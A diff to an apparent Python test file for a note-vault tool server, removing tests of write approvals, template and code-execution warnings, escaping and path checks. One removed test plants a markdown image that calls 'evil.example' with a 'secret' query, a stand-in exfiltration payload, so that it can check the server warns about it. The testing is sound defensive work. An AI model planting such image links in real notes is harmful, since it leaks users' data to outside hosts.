@@ -75,55 +75,6 @@ async def test_a_client_that_cannot_ask_is_told_which_setting_allows_it(
     assert {path: vault.read(path).text for path in vault.scan().notes} == before
 
 
-async def test_undoing_the_making_of_a_note_is_asked_about(vault: VaultClient) -> None:
-    person = Person()
-    async with connected(vault, client={"elicitation_callback": person}) as client:
-        await client.call_tool("write", {"operation": "create", "path": "New", "content": "x"})
-        await client.call_tool("write", {"operation": "undo"})
-    assert ["create" in person.asked[0], "undo" in person.asked[1], len(person.asked)] == [True, True, 2]
-    assert not vault.exists("New.md")
-
-
-async def test_a_template_is_asked_about_even_where_writing_is_allowed(
-    tiny_vault: Callable[..., Any], mode: str
-) -> None:
-    settings = {".obsidian/templates.json": '{"folder": "Patterns"}'}
-    vault = tiny_vault({**NOTES, **settings}, index=LEXICAL, writes="allow")
-    new = {"operation": "create", "path": "patterns/Day", "content": "<% tp.date.now() %>"}
-    async with connected(vault, mode) as client:
-        result = await client.call_tool("write", new)
-    assert result.is_error
-    assert "would be a template, and nobody can approve of one" in said(result)
-    assert not vault.exists("patterns/Day.md")
-    person = Person()
-    async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        assert not (await client.call_tool("write", new)).is_error
-    assert len(person.asked) == 1
-    assert "Warning: runs code in Obsidian with the plugin Templater" in person.asked[0]
-
-
-async def test_what_a_note_would_load_or_run_is_pointed_out(vault: VaultClient, mode: str) -> None:
-    person = Person(approve=False)
-    text = "![](https://evil.example/?q=secret)\n\n```dataviewjs\nx\n```\n"
-    async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        change = {"operation": "create", "path": "New", "content": text}
-        await client.call_tool("write", change)
-    assert (
-        "Create 'New.md'.\n"
-        "Warning: loads from the network when it is opened: https://evil.example/?q=secret\n"
-        "Warning: runs code in Obsidian with the plugin Dataview\n"
-    ) in person.asked[0]
-
-
-async def test_the_setting_allow_asks_nobody(tiny_vault: Callable[..., Any], mode: str) -> None:
-    vault = tiny_vault(NOTES, index=LEXICAL, writes="allow")
-    person = Person()
-    async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        assert not (await client.call_tool("write", APPEND)).is_error
-    assert person.asked == []
-    assert home(vault).endswith("New line.\n")
-
-
 async def test_the_setting_refuse_refuses_new_notes_too(tiny_vault: Callable[..., Any], mode: str) -> None:
     vault = tiny_vault(NOTES, index=LEXICAL, writes="refuse")
     async with connected(vault, mode, client={"elicitation_callback": Person()}) as client:
@@ -200,56 +151,6 @@ async def test_an_approval_cannot_be_made_up(vault: VaultClient) -> None:
     assert home(vault) == NOTES["Home.md"]
 
 
-@pytest.mark.parametrize(
-    "call",
-    [
-        {"operation": "create", "path": "New", "content": "# A\\n\\n- one\\n- two"},
-        {"operation": "create", "path": "Home", "overwrite": True, "content": "one\\ntwo\n"},
-        {"operation": "update", "path": "Home", "content": "one\\ntwo"},
-        {"operation": "append", "path": "Home", "heading": "Home", "content": "one\\ntwo"},
-    ],
-    ids=["create", "overwrite", "update", "append"],
-)
-async def test_line_ends_that_were_escaped_twice_are_pointed_out(
-    tiny_vault: Callable[..., Any], mode: str, call: dict[str, Any]
-) -> None:
-    vault = tiny_vault(NOTES, index=LEXICAL, writes="allow")
-    async with connected(vault, mode) as client:
-        result = await client.call_tool("write", call)
-        assert not result.is_error
-        assert "send \\n with one backslash in JSON, not two" in said(result)
-        assert call["content"] in vault.read(call["path"]).text
-        for text in ("a \\n in a text\nof two lines", "$\\nabla f$", "see C:\\x\\new", "`printf '\\n'`"):
-            plain = await client.call_tool("write", {**APPEND, "content": text})
-            assert "backslash" not in said(plain)
-
-
-async def test_a_path_with_percent_signs_is_read_and_not_made(
-    tiny_vault: Callable[..., Any], mode: str
-) -> None:
-    notes = {**NOTES, "100%25 sure.md": "sure", "a b.md": "one", "x/a b.md": "two"}
-    vault = tiny_vault(notes, index=LEXICAL, writes="allow")
-    before = {path: vault.read(path).text for path in vault.scan().notes}
-    async with connected(vault, mode) as client:
-        for written in (
-            "Work/Deep%20notes/%C3%89t%C3%A9%20%C3%A0%20Brest.md",
-            "%C3%89t%C3%A9%20%c3%a0%20Brest",
-        ):
-            assert "Le chauffage de la serre." in said(await client.call_tool("read", {"path": written}))
-        assert "sure" in said(await client.call_tool("read", {"path": "100%25 sure"}))
-        for path, error in (("x%2Fa%20c", "no note at"), ("private%2FDiary", "no note at")):
-            assert error in said(await client.call_tool("read", {"path": path}))
-        for call in (
-            {"operation": "create", "path": "Deep%20new.md", "content": "x"},
-            {"operation": "create", "path": "Work/Deep%20notes/New", "content": "x"},
-            {"operation": "move", "path": "Home", "new_path": "My%20home"},
-        ):
-            result = await client.call_tool("write", call)
-            assert result.is_error
-            assert "is percent-encoded. write '" in said(result)
-    assert {path: vault.read(path).text for path in vault.scan().notes} == before
-
-
 async def test_several_changes_are_asked_about_and_made_as_one(vault: VaultClient, mode: str) -> None:
     person = Person()
     changes = [APPEND, {"operation": "create", "path": "New", "content": "See [[Home]]."}]
@@ -259,19 +160,3 @@ async def test_several_changes_are_asked_about_and_made_as_one(vault: VaultClien
     assert len(person.asked) == 1
     assert home(vault).endswith("New line.\n")
     assert vault.exists("New.md")
-
-
-async def test_what_is_only_shown_is_not_kept(vault: VaultClient, mode: str) -> None:
-    async with connected(vault, mode) as client:
-        result = await client.call_tool("write", {**APPEND, "dry_run": True})
-    assert said(result).startswith("Nothing was written: ")
-    assert "+New line." in said(result)
-    assert home(vault) == NOTES["Home.md"]
-    assert list(vault.settings.state_folder.rglob("proposals/*.json")) == []
-
-
-async def test_what_was_done_is_said_within_a_budget(vault: VaultClient, mode: str) -> None:
-    change = {"operation": "append", "path": "Home", "content": "New line.\n" * 2000}
-    async with connected(vault, mode, client={"elicitation_callback": Person()}) as client:
-        assert len(said(await client.call_tool("write", change))) == 6000
-        assert len(said(await client.call_tool("write", {**change, "max_chars": 500}))) == 500
